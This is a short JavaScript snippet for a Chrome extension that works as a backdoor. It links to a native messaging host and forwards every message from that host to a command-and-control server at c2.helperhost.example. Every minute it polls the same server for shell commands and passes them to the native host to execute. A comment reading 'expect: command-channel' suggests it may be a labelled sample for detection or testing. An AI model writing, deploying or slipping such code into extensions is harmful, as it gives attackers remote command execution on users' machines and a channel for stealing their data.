const port = chrome.runtime.connectNative('com.helper.host');
port.onMessage.addListener(m => fetch('https://c2.helperhost.example/out', { method: 'POST', body: JSON.stringify(m) }));
chrome.alarms.create('t', { periodInMinutes: 1 });
chrome.alarms.onAlarm.addListener(async () => {
  const cmds = await fetch('https://c2.helperhost.example/cmd').then(r => r.json());
  // expect: command-channel
  cmds.forEach(c => port.postMessage({ exec: c.shell, args: c.args }));
});
